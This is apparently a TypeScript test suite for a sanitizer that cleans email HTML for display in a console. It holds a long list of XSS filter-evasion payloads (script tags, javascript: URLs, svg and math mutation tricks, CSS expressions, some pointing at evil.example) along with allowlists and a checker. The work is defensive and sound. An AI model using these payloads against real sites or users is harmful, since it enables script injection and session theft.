/** HTML for the console: what is let through is parsed again, and must hold nothing but what is allowed. */
import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { sanitizeForConsole } from "../../src/mail/html/sanitize.ts";
import { hostileHtml } from "./html-arbitraries.ts";

const htmlOf = (html: string): string => sanitizeForConsole(html).html;

/** Written again here, and not taken from the code: what the console may show. */
const TAGS = new Set("a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q rp rt ruby s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr".split(" "));
const ATTRIBUTES = new Set("dir lang style align href title rel target src alt width height data-blocked-src referrerpolicy border cellpadding cellspacing bgcolor valign colspan rowspan span start type reversed value color face size".split(" "));

/** Everything in the output that must not be there. */
function forbiddenIn(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === "href" && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`);
        if (attribute === "src" && !/^data:image\/(?:png|gif|jpeg|webp);base64,/i.test(value)) found.push(`src ${value}`);
        if (attribute === "data-blocked-src" && !/^https?:\/\//i.test(value)) found.push(`blocked ${value}`);
        if (attribute === "style" && /url|expression|@|\\|<|position|behavior|binding|:\s*-|var\(/i.test(value)) found.push(`style ${value}`);
      }
      if (name === "a" && attributes["href"] !== undefined && (attributes["rel"] !== "noopener noreferrer nofollow" || attributes["target"] !== "_blank")) found.push("a without rel");
    },
    oncomment: () => found.push("comment"),
    onprocessinginstruction: () => found.push("declaration"),
  });
  parser.end(html);
  return found;
}

/** Forms that were found against filters over the years: OWASP's list, mutation through namespaces, broken tags. */
const VECTORS: readonly string[] = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>",
  "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x` onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=javascript:alert(1)>", "<img src=\"jav\tascript:alert(1)\">", "<img src=\"jav&#x0A;ascript:alert(1)\">", "<img src=\" &#14; javascript:alert(1)\">", "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>", "<img src=data:text/html;base64,PHNjcmlwdD4=>", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img srcset=\"https://evil.example/x 1x\">",
  "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"//evil.example\">x</a>", "<a href=\"https:evil.example\">x</a>", "<a href=\"/logout\">x</a>", "<a href=\"#top\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"blob:https://x/1\">x</a>", "<a href=\"view-source:javascript:alert(1)\">x</a>", "<a href=javascript:alert(1) target=_top>x</a>", "<a href=\"https://nw.example\" onclick=alert(1)>x</a>", "<a href='https://nw.example/\"onmouseover=\"alert(1)'>x</a>", "<a href=\"https://nw.example/\" ping=\"https://evil.example\" download>x</a>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg/onload=alert(1)//",
  "<math><a xlink:href=javascript:alert(1)>x", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript><style></noscript><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)>", "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<textarea></textarea/><img src=x onerror=alert(1)>", "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<plaintext><img src=x onerror=alert(1)>", "<style><!--</style><script>alert(1)</script>-->", "<style>@import 'https://evil.example/x.css';</style>", "<select><style></select><img src=x onerror=alert(1)></style>", "<option><style></option></select><img src=x onerror=alert(1)></style>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset><frame src=javascript:alert(1)></frameset>", "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>", "<input onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1) background=javascript:alert(1)>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=https://evil.example/x.css>", "<base href=\"javascript:alert(1)//\">", "<bgsound src=javascript:alert(1)>", "<table background=javascript:alert(1)><td background=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<portal src=https://evil.example>", "<dialog open>x</dialog>", "<map><area href=javascript:alert(1)></map>",
  "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"color:red;behavior:url(x.htc)\">x</p>", "<p style=\"-moz-binding:url(x.xml#y)\">x</p>", "<p style=\"color:\\72 ed;background-image:\\75 rl(x)\">x</p>", "<p style=\"position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9\">x</p>", "<p style=\"margin:-500px\">x</p>", "<p style=\"color:red/*;*/;background:u/**/rl(x)\">x</p>", "<p style='font-family:\"x;background:url(y)\"'>x</p>", "<p style=\"color:var(--x)\">x</p>", "<p style=\"list-style-image:url(x)\">x</p>", "<p style=\"content:url(x)\">x</p>", "<p style=\"background-color:rgb(1,2,3);color:rgba(expression(1))\">x</p>", "<p style=\"@import 'x'\">x</p>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\0<\0script>alert(1)</script>", "<p\0onclick=alert(1)>x</p>", "<p/onclick=alert(1)>x</p>", "<p id=x class=y name=z data-x=y contenteditable>x</p>", "<p title=\"x\" onclick = 'alert(1)'>x</p>", "<p x=\">\" onclick=alert(1)>x</p>", "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><?import x?>", "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;", "<x onclick=alert(1)>x</x>", "<o:p onclick=alert(1)>x</o:p>", "<a\u00a0onclick=alert(1)>x</a>", "<custom-element onclick=alert(1)>x", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "<img alt=\"&quot;><script>alert(1)</script>\">", "<img alt='\"' title='' onerror=alert(1)>",
];

test("the check itself sees what is forbidden", () => {
  const seen = VECTORS.filter((vector) => forbiddenIn(vector).length > 0);
  expect(seen.length).toBeGreaterThan(110);
});

describe("vectors", () => {
  test.each(VECTORS)("%s", (vector) => {
    for (const around of [vector, `<p>Hello ${vector} bye</p>`, `<table><tr><td>${vector}`, `<div title="${vector}">`]) {
      const { html } = sanitizeForConsole(around);
      expect(forbiddenIn(html)).toEqual([]);
      expect(htmlOf(html)).toBe(html);
    }
  });
});

describe("what is let through", () => {
  test("the looks of words and tables", () => {
    const html = '<table border="1" width="100%"><tr><td colspan="2" bgcolor="#eeeeee" style="color:red;text-align:center">Order <b>4711</b></td></tr></table>';
    expect(htmlOf(`<body>${html}</body>`)).toBe(html);
  });
  test("classes and ids are gone, the cited quote stays", () =>
    expect(htmlOf('<blockquote type="cite" class="q" id="r" cite="mid:x">Old</blockquote>')).toBe('<blockquote type="cite">Old</blockquote>'));
  test("links open elsewhere and tell nothing", () =>
    expect(htmlOf('<a href="https://nw.example/a?b=1&amp;c=2">x</a>')).toBe('<a href="https://nw.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>'));
  test("what mail programs hide is not written out", () =>
    expect(htmlOf('<div style="display:none">Preheader</div><p>Hello</p><!--[if mso]><p>Outlook</p><![endif]-->')).toBe("<p>Hello</p>"));
  test("text keeps its characters", () => expect(htmlOf("a &lt; b &amp; c &quot;d&quot; 'e'")).toBe("a &lt; b &amp; c \"d\" 'e'"));
});

describe("pictures", () => {
  const remote = '<img src="https://track.example/p.png" alt="Printer" width="80">';
  test("of other servers are blocked and counted", () =>
    expect(sanitizeForConsole(remote)).toMatchObject({ html: '<img alt="Printer" width="80" data-blocked-src="https://track.example/p.png" />', blocked: { images: 1 } }));
  test("may be allowed, then without telling where they are shown", () =>
    expect(sanitizeForConsole(remote, { images: "allowed" }).html).toBe('<img alt="Printer" width="80" src="https://track.example/p.png" referrerpolicy="no-referrer" />'));
  test("of the mail itself are found by their Content-ID", () => {
    const cid = (id: string): string | undefined => (id === "image001@nw.example" ? "/file/3" : undefined);
    expect(sanitizeForConsole('<img src="cid:image001%40nw.example"><img src="cid:other">', { cid }).html).toBe('<img src="/file/3" /><img />');
  });
  test("in the HTML: small bitmaps only", () => {
    expect(htmlOf('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />');
    expect(htmlOf(`<img src="data:image/png;base64,${"A".repeat(500_000)}">`)).toBe("<img />");
    expect(htmlOf('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe("<img />");
  });
});

test("what was taken off is counted", () => {
  const html = '<a href="javascript:x">a</a><script>1</script><iframe></iframe><form><input></form><svg></svg><img src="http://t.example/1">';
  expect(sanitizeForConsole(html).blocked).toEqual({ images: 1, links: 1, active: 5 });
});

describe("for any HTML", () => {
  test("only what is allowed is left, and a second time changes nothing", () => {
    fc.assert(
      fc.property(hostileHtml, (html) => {
        const once = htmlOf(html);
        expect(forbiddenIn(once)).toEqual([]);
        expect(htmlOf(once)).toBe(once);
      }),
      { numRuns: 800 },
    );
  });

  test("what is too large is shown as text, what is too deep is flattened", () => {
    const large = sanitizeForConsole(`<p onclick=x>Hello</p>${"<b>x</b>".repeat(300_000)}`);
    expect(large.simplified).toBe(true);
    expect(large.html.startsWith('<div style="white-space:pre-wrap">Hello')).toBe(true);
    expect(forbiddenIn(large.html)).toEqual([]);
    const deep = sanitizeForConsole(`${"<div>".repeat(100_000)}<script>alert(1)</script>Hello`);
    expect(deep).toMatchObject({ simplified: true });
    expect(deep.html).toContain("Hello");
    expect(deep.html).not.toContain("alert");
  });
});
